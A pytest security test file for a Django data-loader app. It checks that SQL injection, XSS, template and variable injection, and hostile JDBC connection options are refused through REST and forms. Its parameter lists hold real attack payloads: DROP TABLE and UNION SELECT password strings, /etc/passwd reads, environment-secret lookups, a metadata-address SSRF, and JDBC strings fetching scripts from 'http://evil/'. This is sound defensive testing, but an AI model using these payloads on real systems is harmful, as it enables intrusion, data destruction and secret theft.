"""SQL injection by names, expressions, filters, options and searches, through forms and through REST."""

from collections.abc import Callable
from typing import Any

import pytest
import sqlglot
from django.http import HttpResponse
from django.test import Client
from sqlglot import exp

from loader.contract.refusals import Refusal
from loader.selectors.statements import dataset_sql, statements
from metadata.models import SourceDataset, TargetColumn, TargetDataset, TargetSchema
from tests.attacks.requests import REFUSED, must_be_refused, send
from tests.elevata.web.forms import typed
from tests.elevata.web.html import text_of

pytestmark = pytest.mark.django_db

EXPRESSIONS = [
    "name; DROP TABLE rawcore.rc_air_airport",
    "name) FROM secrets; --",
    "(SELECT max(password) FROM auth_user)",
    "name FROM other",
    "EXISTS (SELECT 1 FROM other)",
    "name IN (SELECT name FROM other)",
    "name /* */ ; DELETE FROM x",
    "reflect('java.lang.Runtime', 'getRuntime')",
    "java_method('java.lang.System', 'exit', '1')",
    "try_reflect('java.lang.System', 'getenv', 'ELEVATA_SECRET_KEY')",
    "read_files('/etc/passwd')",
    "from_csv(name, 'a int')",
    "input_file_name()",
    "assert_true(false)",
    "raise_error('x')",
    "current_user()",
    "session_user",
    "now()",
    "rand()",
    "uuid()",
    "count(*)",
    "sum(elevation) OVER (ORDER BY name)",
    "transform(array(name), x -> x)",
    "ai_query('x', name)",
    "http_request('GET', 'http://169.254.169.254/')",
    "secret('scope', 'key')",
    "${env:ELEVATA_SECRET_KEY}",
    "'${env:ELEVATA_SOURCE_ERP_PASSWORD}'",
    '"${system:user.name}"',
    "`${spark.app.id}`",
    "upper('${spark.sql.warehouse.dir}')",
    ":name",
    "?",
    "IDENTIFIER('name')",
    "r'raw'",
    "$$name$$",
    "system.session.x",
    "`{{ load_run_id }}`",
    "__load_run_id_placeholder__",
    "{{ data_dir }}",
    "{{ load_run_id; }}",
    "name' OR '1'='1",
    "`name`` ; DROP TABLE x --`",
    "\\'; DROP TABLE x; --",
    "a.b.c.d(name)",
    "CASE WHEN (SELECT 1) = 1 THEN name END",
    "name AS other",
    "*",
    "rc_air_airport.*",
    "/*+ BROADCAST(x) */ name; SELECT 1",
    "(" * 5000 + "name" + ")" * 5000,
]
NAMES = [
    "rc_x; DROP TABLE y",
    "rc_x`",
    "rc_x' OR '1'='1",
    'rc_x"',
    "rc_x--",
    "rc_x/**/",
    "../../rc_x",
    "rc x",
    "rc_x\nrc_y",
    "rc_x\u202e",
    "rс_x",  # the second letter is Cyrillic
    "default.rc_x",
    "delta.`/etc`",
    "{{ name }}",
    "{% load x %}",
    "<script>alert(1)</script>",
    "x" * 300,
    "",
]
COLUMN_NAMES = [
    "a`, (SELECT 1) AS `b",
    "a` FROM x; DROP TABLE y; --",
    "'; DROP TABLE x; --",
    "a b",
    "a.b",
    "{{ data_dir }}",
    "`",
    "``",
    "-- a",
    "/* a */",
    "<script>alert(1)</script>",
]


@pytest.fixture
def column(airport: TargetDataset) -> TargetColumn:
    return airport.columns.get(name="name")


def accepted(attempt: Callable[[str], HttpResponse], texts: list[str]) -> list[tuple[str, int]]:
    """Return those texts that were not refused, with the response's status."""
    statuses = [(text[:60], attempt(text).status_code) for text in texts]
    return [(text, status) for text, status in statuses if status not in REFUSED]


def expression_of(column: TargetColumn) -> str:
    return TargetColumn.objects.get(pk=column.pk).expression


def test_a_hostile_expression_is_refused_by_rest(operator: Client, column: TargetColumn):
    before, address = expression_of(column), f"columns/{column.key}/"
    assert accepted(lambda text: send(operator, "patch", address, {"expression": text}), EXPRESSIONS) == []
    assert expression_of(column) == before


def test_a_hostile_expression_is_refused_by_the_form(operator: Client, column: TargetColumn):
    before, address = expression_of(column), f"/columns/{column.key}/edit/"
    page = text_of(operator, address)
    assert accepted(lambda text: operator.post(address, typed(page, expression=text)), EXPRESSIONS) == []
    assert expression_of(column) == before
    assert operator.post(address, typed(page, expression="upper(name)")).status_code == 302


def test_a_hostile_filter_is_refused_by_rest(operator: Client, airport: TargetDataset):
    before, address = airport.filter, f"datasets/{airport.key}/"
    assert accepted(lambda text: send(operator, "patch", address, {"filter": text}), EXPRESSIONS) == []
    assert TargetDataset.objects.get(pk=airport.pk).filter == before


def test_a_hostile_name_of_a_table_is_refused_by_rest(operator: Client, airport: TargetDataset):
    count, address = TargetDataset.objects.count(), f"datasets/{airport.key}/"
    tag = operator.get(f"/api/v1/{address}").headers["ETag"]
    body = {"schema": "rawcore"}
    assert accepted(lambda name: send(operator, "post", "datasets/", body | {"name": name}), NAMES) == []
    rename = f"{address}rename/"
    assert accepted(lambda name: send(operator, "post", rename, {"name": name}, **{"If-Match": tag}), NAMES) == []
    assert TargetDataset.objects.count() == count
    assert TargetDataset.objects.get(pk=airport.pk).name == "rc_air_airport"


def test_a_hostile_name_of_a_table_is_refused_by_the_form(operator: Client, airport: TargetDataset):
    count, page = TargetDataset.objects.count(), text_of(operator, "/datasets/new/")
    pages: list[str] = []

    def make(name: str) -> HttpResponse:
        fields = typed(page, having="name", name=name, schema="rawcore")
        answer = operator.post("/datasets/new/", fields)
        pages.append(answer.content.decode())
        return answer

    assert accepted(make, NAMES) == []
    assert not any("<script>alert" in text for text in pages)
    assert TargetDataset.objects.count() == count
    assert make("rc_x").status_code == 302


def test_a_hostile_name_of_a_schema_is_refused(operator: Client):
    assert accepted(lambda name: send(operator, "post", "schemas/", {"name": name, "layer": "serving"}), NAMES) == []
    assert not TargetSchema.objects.exists()


@pytest.mark.parametrize("name", COLUMN_NAMES)
def test_column_name_is_quoted_as_one_identifier_in_sql(
    operator: Client, airport: TargetDataset, source: SourceDataset, name: str
):
    """Check that any deliverable column name is quoted, so that it is only a name in SQL."""
    answer = send(
        operator, "post", "source-columns/", {"source_dataset": str(source.key), "name": name, "type": "string"}
    )
    assert answer.status_code == 201
    assert send(operator, "post", f"source-datasets/{source.key}/generate/").status_code == 200
    named = 0
    for statement in statements(TargetDataset.objects.get(name="rc_air_airport")):
        assert not statement.problem, statement.problem
        for parsed in sqlglot.parse(statement.sql, read="spark"):
            assert not list(parsed.find_all(exp.Drop, exp.Delete))
            named += sum(identifier.this == name for identifier in parsed.find_all(exp.Identifier))
    assert named
    page = text_of(operator, f"/datasets/{airport.key}/")
    assert "<script>alert" not in page


def test_line_end_in_a_rank_of_sources_does_not_end_a_comment(airport: TargetDataset):
    rank = ["air.airport", "x\nDROP TABLE secrets;"]
    TargetDataset.objects.filter(pk=airport.pk).update(history_policy={"rank": rank})
    texts = [statement.sql for statement in statements(TargetDataset.objects.get(pk=airport.pk))]
    assert any("x DROP TABLE secrets;" in text for text in texts)
    parsed = [tree for text in texts for tree in sqlglot.parse(text, read="spark") if tree is not None]
    assert not any(list(tree.find_all(exp.Drop)) for tree in parsed)


@pytest.mark.parametrize("message", ["no column\nDROP TABLE secrets;", "no\r\u2028DROP TABLE secrets;"])
def test_line_end_in_a_refusal_does_not_end_a_comment(airport: TargetDataset, monkeypatch, message: str):
    def refuse(*_: Any) -> str:
        raise Refusal("BAD_EXPRESSION", message)

    monkeypatch.setattr("loader.selectors.statements.layer_sql", refuse)
    assert len(dataset_sql(airport).splitlines()) == 1


@pytest.mark.parametrize("name", ["${env:HOME}", "a ${system:user.name}", "${spark.app.id}"])
def test_column_name_with_a_variable_is_refused(
    operator: Client, airport: TargetDataset, source: SourceDataset, column: TargetColumn, name: str
):
    body = {"source_dataset": str(source.key), "name": name, "type": "string"}
    must_be_refused(send(operator, "post", "source-columns/", body), "bad_name")
    must_be_refused(send(operator, "post", "source-columns/", body | {"name": "x", "target_name": name}), "bad_name")
    tag = {"If-Match": operator.get(f"/api/v1/columns/{column.key}/").headers["ETag"]}
    must_be_refused(send(operator, "post", f"columns/{column.key}/rename/", {"name": name}, **tag), "bad_name")
    assert TargetColumn.objects.get(pk=column.pk).name == column.name


@pytest.mark.parametrize(
    "policy",
    [
        {"state_labels": {"new": "${env:HOME}"}},
        {"track": ["${env:HOME}"]},
        {"input": "effective", "time": "${env:HOME}"},
        {"open_end": "${env:HOME}"},
        {"input": "batch_files", "time": "_fivetran_start", "null_string": "${env:HOME}"},
        {"input": "batch_files", "time": "_fivetran_start", "unmodified_string": "${env:HOME}"},
    ],
)
def test_history_policy_with_a_variable_is_refused(operator: Client, airport: TargetDataset, policy: dict[str, Any]):
    answer = send(operator, "patch", f"datasets/{airport.key}/", {"history_policy": policy})
    must_be_refused(answer, "bad_history_policy")
    assert "${" in answer.json()["detail"]
    assert TargetDataset.objects.get(pk=airport.pk).history_policy == airport.history_policy


@pytest.mark.parametrize(
    "options",
    [
        {"path": "/etc/passwd"},
        {"dbtable": "(SELECT * FROM pg_shadow) x"},
        {"query": "SELECT pg_read_file('/etc/passwd')"},
        {"driver": "com.sun.rowset.JdbcRowSetImpl"},
        {"url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/'"},
        {"sessionInitStatement": "DROP TABLE x"},
        {"delimiter": "\n"},
        {"delimiter": ",,"},
        {"header": "true; DROP TABLE x"},
        {"encoding": {"a": 1}},
        {"encoding": "${env:HOME}"},
        {"columnNameOfCorruptRecord": "x"},
    ],
)
def test_source_options_unknown_to_the_format_are_refused(
    operator: Client, source: SourceDataset, options: dict[str, Any]
):
    must_be_refused(send(operator, "patch", f"source-datasets/{source.key}/", {"options": options}), "bad_option")
    assert SourceDataset.objects.get(pk=source.pk).options == source.options


@pytest.mark.parametrize(
    "location",
    [
        "jdbc:postgresql://db/erp?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:postgresql://db/erp?sslfactory=x&sslfactoryarg=http://evil/",
        "jdbc:postgresql://db/erp?options=-c%20log_statement=all",
        "postgresql://db/erp?sslrootcert=/etc/passwd",
        "postgresql://db/erp#x",
        "postgresql:///erp?host=/var/run/postgresql",
        "postgresql://db:99999/erp",
    ],
)
def test_connection_options_in_a_location_are_refused(operator: Client, location: str):
    body = {"short_name": "erp", "name": "ERP", "kind": "jdbc", "location": location}
    must_be_refused(send(operator, "post", "systems/", body), "bad_location")


@pytest.mark.parametrize(
    "path", ["datasets/", "columns/", "systems/", "source-datasets/", "notices/", "webhooks/", "deliveries/"]
)
def test_search_with_sql_returns_no_results(operator: Client, airport: TargetDataset, path: str):
    for q in ("' OR 1=1 --", "a' UNION SELECT password FROM auth_user --", "%' --", "\\' OR 1 --"):
        answer = operator.get(f"/api/v1/{path}", {"q": q})
        assert (answer.status_code, answer.json()["results"]) == (200, [])
    assert operator.get(f"/api/v1/{path}", {"q": "\x00"}).status_code in (200, 400)


def test_unknown_order_is_refused(operator: Client, airport: TargetDataset):
    orders = ["password", "person__password", "name; DROP TABLE x", "?", "schema__datasets__name"]
    assert accepted(lambda order: operator.get("/api/v1/datasets/", {"ordering": order}), orders) == []
